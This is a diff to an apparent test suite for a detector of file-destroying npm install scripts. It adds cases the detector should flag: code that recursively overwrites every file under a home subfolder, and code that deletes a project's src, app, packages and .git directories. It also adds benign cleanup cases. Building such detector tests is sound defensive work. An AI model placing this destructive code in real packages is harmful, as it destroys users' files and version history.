@@ -7,6 +7,22 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(destroysFiles, {
   speaks: [
     {
+      when: 'every file below a folder of the home is written over with one text, in a loop that counts',
+      files: {
+        'index.js': `${FS} function walk(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); if (fs.lstatSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, 'x'); } } for (var i = 0, roots = [os.homedir(), path.resolve('..')]; i < roots.length; i++) { var r = roots[i]; walk(path.join(r, 'inert-folder')); }`,
+      },
+      weight: 'strong',
+      says: ['<home>/inert-folder'],
+    },
+    {
+      when: 'the sources of a project and their history are deleted when a library is called, below a folder that another file names',
+      files: {
+        'index.js': `const { dispose } = require('./d'); exports.watch = () => dispose(process.cwd());`,
+        'd.js': `${FS} exports.dispose = root => { for (const name of ['src', 'app', 'packages', '.git']) fs.rmSync(path.join(root, name), { recursive: true, force: true }); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'all that lies in the project is written over',
       files: {
         'index.js': `const fs = require('fs'), path = require('path'); for (const found of fs.readdirSync(process.cwd())) fs.writeFileSync(path.resolve(process.cwd(), found), '')`,
@@ -120,6 +136,19 @@ examine(destroysFiles, {
     },
   ],
   silent: [
+    {
+      when: 'every file below its own folder of the home is written over with one text',
+      files: {
+        'index.js': `${FS} const d = path.join(os.homedir(), '.inert-cache'); for (const f of fs.readdirSync(d)) fs.writeFileSync(path.join(d, f), '')`,
+      },
+    },
+    {
+      when: 'what is built is deleted below a folder that another file names',
+      files: {
+        'index.js': `const { clean } = require('./d'); exports.build = () => clean(process.cwd());`,
+        'd.js': `${FS} exports.clean = root => { for (const name of ['dist', 'coverage', '.cache']) fs.rmSync(path.join(root, name), { recursive: true, force: true }); };`,
+      },
+    },
     {
       when: 'a list of what is in a folder of the project is written beside it, and its build is emptied',
       files: {
